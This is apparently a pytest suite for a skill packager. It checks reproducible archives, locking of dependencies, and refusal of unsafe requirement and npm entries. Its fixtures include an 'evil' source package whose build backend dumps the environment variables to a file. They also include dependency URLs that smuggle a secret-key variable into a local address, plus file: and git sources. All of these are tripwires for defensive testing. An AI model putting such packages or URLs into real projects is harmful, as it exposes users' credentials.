"""Packaging: the same bytes each time, dependencies prepared, links refused."""

from __future__ import annotations

import hashlib
import json
import os
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

from skillbox_core.environments.interpreter import Known
from skillbox_core.environments.push import locker
from skillbox_core.errors import InvalidSkillError
from skillbox_core.models import Interpreter
from skillbox_core.skills.environment_lock import lock_of
from skillbox_core.skills.package import package
from skillbox_core.skills.requirements import checked_packages
from skillbox_core.skills.scripts import inspect_new
from tests.services.wheels import use_folder, wheel

MAX = 10_000_000


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "SKILL.md").write_text("---\nname: s\ndescription: d\nlang: python\n---\n")
    (folder / "main.py").write_text("print(1)")
    return folder


@pytest.fixture
def node_skill(skill: Path) -> Path:
    (skill / "SKILL.md").write_text("---\nname: s\ndescription: d\nlang: node\n---\n")
    (skill / "main.py").rename(skill / "main.js")
    return skill


def names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()


def test_the_same_folder_gives_the_same_bytes_whatever_its_times_and_modes(skill: Path, tmp_path: Path) -> None:
    first, second = tmp_path / "1.zip", tmp_path / "2.zip"
    package(skill, first, MAX)
    os.utime(skill / "main.py", (1, 1))
    (skill / "main.py").chmod(0o600)
    (skill / "__pycache__").mkdir()
    (skill / "__pycache__" / "x.pyc").write_bytes(b"x")
    assert package(skill, second, MAX).digest == package(skill, first, MAX).digest
    assert names(second) == ["SKILL.md", "main.py"]


def test_a_folder_of_another_name_is_said(skill: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(skill)
    assert package(Path(), tmp_path / "x.zip", MAX).warnings == ()
    other = skill.rename(tmp_path / "other")
    assert package(other, tmp_path / "x.zip", MAX).warnings == (
        "the folder is called other, and the open format wants a skill's folder to have its name",
    )


def test_skill_md_may_be_written_small_as_the_reference_library_has_it(skill: Path, tmp_path: Path) -> None:
    (skill / "SKILL.md").rename(skill / "skill.md")
    assert {file.path for file in package(skill, tmp_path / "2.zip", MAX).files} == {"SKILL.md", "main.py"}
    with zipfile.ZipFile(tmp_path / "3.zip", "w") as packed:
        packed.writestr("s-main/skill.md", (skill / "skill.md").read_text())
        packed.writestr("s-main/main.py", "")
    assert [file.path for file in inspect_new(tmp_path / "3.zip", MAX).files] == ["SKILL.md", "main.py"]


def test_folders_without_skill_md_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidSkillError, match=r"no SKILL\.md"):
        package(tmp_path, tmp_path / "x.zip", MAX)


def test_archives_of_the_skill_in_its_own_folder_are_no_part_of_it(skill: Path, tmp_path: Path) -> None:
    first = package(skill, tmp_path / "1.zip", MAX)
    for name in ("s-1.0.0.zip", "s-0.9.0.zip", "s-data.zip", "t-1.0.0.zip"):
        (skill / name).write_bytes(b"x")
    (skill / "data").mkdir()
    (skill / "data" / "s-1.0.0.zip").write_bytes(b"x")
    package(skill, tmp_path / "2.zip", MAX)
    assert names(tmp_path / "2.zip") == ["SKILL.md", "main.py", "s-data.zip", "t-1.0.0.zip", "data/s-1.0.0.zip"]
    for name in ("s-data.zip", "t-1.0.0.zip", "data/s-1.0.0.zip"):
        (skill / name).unlink()
    assert package(skill, tmp_path / "3.zip", MAX).digest == first.digest


def test_what_can_not_be_read_is_named_and_not_left_out(
    skill: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (skill / "data").mkdir()
    (skill / "data" / "table.csv").write_text("x")
    closed, scandir, opened = skill / "data", os.scandir, Path.open

    def refuse(path: Any) -> None:
        # Modes don't keep out the superuser, who the tests may be run by.
        if Path(path) == closed:
            raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(os, "scandir", lambda path: (refuse(path), scandir(path))[1])
    monkeypatch.setattr(Path, "open", lambda path, *more, **named: (refuse(path), opened(path, *more, **named))[1])
    with pytest.raises(InvalidSkillError, match=rf"{skill}/data can't be read: Permission denied"):
        package(skill, tmp_path / "s.zip", MAX)
    closed = skill / "main.py"
    with pytest.raises(InvalidSkillError, match=r"'main\.py' can't be read: Permission denied"):
        package(skill, tmp_path / "s.zip", MAX)


def test_a_name_that_is_not_utf_8_is_refused(skill: Path, tmp_path: Path) -> None:
    (skill / os.fsdecode(b"caf\xe9.txt")).write_text("x")
    with pytest.raises(InvalidSkillError, match=r"the name of 'caf\\udce9\.txt' is not UTF-8"):
        package(skill, tmp_path / "s.zip", MAX)


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The only place where packages of this installation are looked for."""
    return use_folder(tmp_path / "index", monkeypatch)


LOCKER = locker(lambda _: Known(Interpreter("3.11.2", "x86_64", "glibc 2.36")), lambda _: None, lambda _: None)


def test_python_packages_are_locked_from_the_installations_index(skill: Path, tmp_path: Path, index: Path) -> None:
    digest = hashlib.sha256(wheel(index, "greeter").read_bytes()).hexdigest()
    (skill / "requirements.txt").write_text(
        f"# what it needs\ngreeter==1.0 ; python_version >= '3' \\\n    --hash=sha256:{digest}\n    # via nothing\n"
    )
    archive = package(skill, tmp_path / "s.zip", MAX, locker=LOCKER)
    assert names(tmp_path / "s.zip") == ["SKILL.md", "main.py", "requirements.txt", "environment.lock"]
    lock = lock_of(archive)
    assert lock is not None
    assert [pin.exact for pin in lock.pins] == ["greeter==1.0"]
    assert archive.warnings == ()
    assert not (skill / "environment.lock").exists(), "the author's folder stays as it is"
    assert package(skill, tmp_path / "again.zip", MAX, locker=LOCKER).digest == archive.digest


def test_what_can_not_be_prepared_is_said(skill: Path, tmp_path: Path, index: Path) -> None:
    (skill / "requirements.txt").write_text("no-such-package-here==1\n")
    with pytest.raises(InvalidSkillError, match=r"requirements\.txt: the index has no .*no-such-package-here"):
        package(skill, tmp_path / "s.zip", MAX, locker=LOCKER)
    with pytest.raises(InvalidSkillError, match=r"requirements\.txt asks for packages, and nothing is here to lock"):
        package(skill, tmp_path / "s.zip", MAX)


def test_what_is_no_package_json_is_said(node_skill: Path, tmp_path: Path) -> None:
    (node_skill / "package.json").write_text("{")
    with pytest.raises(InvalidSkillError, match=r"package\.json can't be read"):
        package(node_skill, tmp_path / "s.zip", MAX)


def no_locker(*_: object) -> str:
    raise AssertionError("something was locked")


@pytest.mark.parametrize("why", ["environment", "vendor", "node", "instructions", "empty"])
def test_what_needs_no_environment_gets_none(skill: Path, tmp_path: Path, why: str) -> None:
    (skill / "requirements.txt").write_text("# nothing\n" if why == "empty" else "greeter\n")
    (skill / "environment.lock").write_text("a stale one")
    if why == "environment":
        (skill / "SKILL.md").write_text("---\nname: s\ndescription: d\nenvironment: none\n---\n")
    elif why == "vendor":
        (skill / "vendor").mkdir()
        (skill / "vendor" / "greeter.py").write_text("")
    elif why in ("node", "instructions"):
        (skill / "main.py").unlink()
        (skill / "SKILL.md").write_text("---\nname: s\ndescription: d\n---\n")
        if why == "node":
            (skill / "main.js").write_text("")
    archive = package(skill, tmp_path / "s.zip", MAX, locker=no_locker)
    assert "environment.lock" not in names(tmp_path / "s.zip")
    assert lock_of(archive) is None


@pytest.mark.parametrize("prepare", [True, False], ids=["package", "lint"])
def test_what_is_passed_over_is_warned_of(skill: Path, tmp_path: Path, index: Path, prepare: bool) -> None:
    wheel(index, "greeter")
    (skill / "main.py").write_bytes(b"# caf\xe9\n# /// script\n# dependencies = ['greeter']\n# ///\n")
    (skill / "requirements.txt").write_text("other\n")
    warnings = package(skill, tmp_path / "s.zip", MAX, prepare=prepare, locker=LOCKER).warnings
    assert "requirements.txt is passed over: main.py says which packages the skill needs" in warnings


@pytest.fixture
def trap(skill: Path, tmp_path: Path) -> Path:
    """A file that is written when a source package in the skill's folder is built."""
    sprung = tmp_path / "sprung"
    evil = tmp_path / "evil-1.0"
    evil.mkdir()
    (evil / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (evil / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    (evil / "backend.py").write_text(f"import os\nopen({str(sprung)!r}, 'w').write(str(dict(os.environ)))\n")
    (skill / "wheels").mkdir()
    with tarfile.open(skill / "wheels" / "evil-1.0.tar.gz", "w:gz") as archive:
        archive.add(evil, "evil-1.0")
    return sprung


@pytest.mark.parametrize("prepare", [True, False], ids=["package", "lint"])
@pytest.mark.parametrize(
    ("lines", "line"),
    [
        ("--no-index\n--find-links {wheels}\n--no-binary evil\nevil\n", 1),
        ("evil\n--find-links {wheels}\n", 2),
        ("-e {wheels}\n", 1),
        ("# a comment\n\n{wheels}/evil-1.0.tar.gz\n", 3),
        ("./wheels/evil-1.0.tar.gz", 1),
        ("evil @ file://{wheels}/evil-1.0.tar.gz\n", 1),
        ("evil@http://127.0.0.1:1/${{SKILLBOX_S3_SECRET_KEY}}.tar.gz\n", 1),
        ("evil==1.0 --config-settings=a=b\n", 1),
        ("evil==1.0 --hash=md5:00\n", 1),
        (f"evil==1.0 --hash=sha512:{'0' * 128}\n", 1),
        ("evil; extra == 'a --no-binary evil'\n", 1),
        ("evil==1.0 \\\n  --no-binary evil\n", 1),
        ("evil===${{HOME}}\n", 1),
        ("-r more.txt\n", 1),
    ],
)
def test_requirements_that_are_more_than_packages_of_an_index_reach_no_index(
    skill: Path, tmp_path: Path, trap: Path, lines: str, line: int, prepare: bool
) -> None:
    (skill / "requirements.txt").write_text(lines.format(wheels=skill / "wheels"))
    with pytest.raises(
        InvalidSkillError, match=rf"requirements\.txt, line {line}: .* is refused: only `name\[extras\]"
    ):
        package(skill, tmp_path / "s.zip", MAX, prepare=prepare, locker=no_locker)
    assert not trap.exists(), "code of the folder was run"


def test_a_source_package_is_not_built_even_from_the_index(
    skill: Path, tmp_path: Path, trap: Path, index: Path
) -> None:
    (skill / "wheels" / "evil-1.0.tar.gz").rename(index / "evil-1.0.tar.gz")
    (skill / "requirements.txt").write_text("evil\n")
    with pytest.raises(InvalidSkillError, match=r"evil==1\.0 has no wheel .* nothing is built"):
        package(skill, tmp_path / "s.zip", MAX, locker=LOCKER)
    assert not trap.exists()


@pytest.mark.parametrize(
    ("package_json", "lock"),
    [
        ({"dependencies": {"a": "file:../evil"}}, None),
        ({"dependencies": {"a": ".."}}, None),
        ({"dependencies": {"a": "/evil"}}, None),
        ({"dependencies": {"a": "~/evil"}}, None),
        ({"dependencies": {"a": "evil/evil"}}, None),
        ({"dependencies": {"a": "git+file:///evil"}}, None),
        ({"dependencies": {"a": "http://127.0.0.1:1/a.tgz"}}, None),
        ({"dependencies": {"a": "1"}, "overrides": {"b": {".": "github:evil/evil"}}}, None),
        ({"dependencies": {"a": "1"}, "workspaces": ["../*"]}, None),
        ({"dependencies": {"a": "1"}}, {"packages": {"node_modules/a": {"resolved": "../evil", "link": True}}}),
        ({"dependencies": {"a": "1"}}, {"packages": {"node_modules/a": {"resolved": "git+ssh://git@h/evil.git#1"}}}),
        ({"dependencies": {"a": "1"}}, {"packages": {"node_modules/a": {"dependencies": {"b": "evil/evil"}}}}),
        ({"dependencies": {"a": "1"}}, {"dependencies": {"a": {"version": "file:../evil"}}}),
        *(
            ({"dependencies": {"a": "*"}}, {"packages": {"node_modules/a": {"version": version}}})
            for version in (
                *("file:~/evil", "file:/evil.tgz", "http://127.0.0.1:1/a.tgz", "github:evil/evil#0123", "../evil"),
                *("1.0.0 || file:../evil", "^1.0.0", "", None, ["1.0.0"]),
            )
        ),
        *(
            ({"dependencies": {"a": "*"}}, {"packages": {place: {"version": "1.0.0"}}})
            for place in ("../evil", "/evil", "node_modules/../evil", "node_modules/a/../../evil", "evil")
        ),
        ({"dependencies": {"a": "*"}}, {"packages": {"node_modules/a": {"version": "1.0.0", "name": "file:../evil"}}}),
        ({"dependencies": {"../evil": "1"}}, None),
        ({"dependencies": {"a": "1"}, "optionalDependencies": {"git+ssh://h/evil": "1"}}, None),
        ({"dependencies": ["file:../evil"]}, None),
        ({"dependencies": {"a": "1"}}, {"packages": {"node_modules/a": {"version": "1.0.0", "resolved": ["file:"]}}}),
    ],
)
def test_node_dependencies_that_are_no_packages_of_a_registry_reach_no_npm(
    node_skill: Path, tmp_path: Path, package_json: dict[str, Any], lock: dict[str, Any] | None
) -> None:
    (node_skill / "package.json").write_text(json.dumps(package_json))
    if lock:
        (node_skill / "package-lock.json").write_text(json.dumps(lock))
    with pytest.raises(InvalidSkillError, match=r"refused|older than npm 7|is not an object"):
        package(node_skill, tmp_path / "s.zip", MAX, locker=no_locker)


def test_a_lock_reaches_npm_without_any_other_place_to_fetch_from() -> None:
    entry = {
        **{"version": "1.2.3", "integrity": "sha512-abc", "dependencies": {"b": "^1"}, "optional": True},
        **{"resolved": "http://127.0.0.1:1/a.tgz", "_resolved": "file:../evil", "_from": "file:../evil", "x": 1},
    }
    wanted = {
        **{"name": "mine", "dependencies": {"a": "*"}, "_resolved": "file:../evil"},
        **{"scripts": {"preinstall": "evil"}, "devDependencies": {"b": "1"}, "bin": "evil.js"},
    }
    lock = {
        "packages": {"": wanted, "node_modules/a": entry, "node_modules/a/node_modules/@x/b": {"version": "1.0.0-r+1"}}
    }
    lock["packages"]["node_modules/c"] = {"version": "1.0.0", "dev": True}
    files = checked_packages(json.dumps(wanted), json.dumps(lock))
    said = json.dumps(files)
    assert not any(word in said for word in ("evil", "127.0.0.1", "resolved", "_from", "dev"))
    assert files["package.json"] == files["package-lock.json"]["packages"][""] == {"dependencies": {"a": "*"}}
    assert files["package-lock.json"]["packages"]["node_modules/a"] == {
        **{"version": "1.2.3", "integrity": "sha512-abc", "dependencies": {"b": "^1"}, "optional": True}
    }


@pytest.mark.parametrize("what", ["hole", "pipe", "pipe for npm"])
def test_a_folder_that_can_not_be_a_skill_is_refused_before_it_is_packed(
    skill: Path, tmp_path: Path, what: str
) -> None:
    if what == "hole":
        with (skill / "data").open("wb") as file:
            file.truncate(1 << 40)
    else:
        os.mkfifo(skill / ("data" if what == "pipe" else "package.json"))
    with pytest.raises(InvalidSkillError, match="over" if what == "hole" else "no plain file"):
        package(skill, tmp_path / "s.zip", MAX, prepare=False)


def test_versions_of_a_registry_are_taken() -> None:
    versions = ["1.2.3", "^1.2", "~1.2.0", "", "*", "latest", ">=1 <2 || 3.x", "1.0.0-rc.1+b", "npm:other@^1", "$b"]
    wanted = {"dependencies": {f"a{number}": version for number, version in enumerate(versions)}}
    lock = {"packages": {"": wanted, "node_modules/a0": {"version": "1.2.3", "resolved": "https://registry/a.tgz"}}}
    assert set(checked_packages(json.dumps(wanted), json.dumps(lock))) == {"package.json", "package-lock.json"}
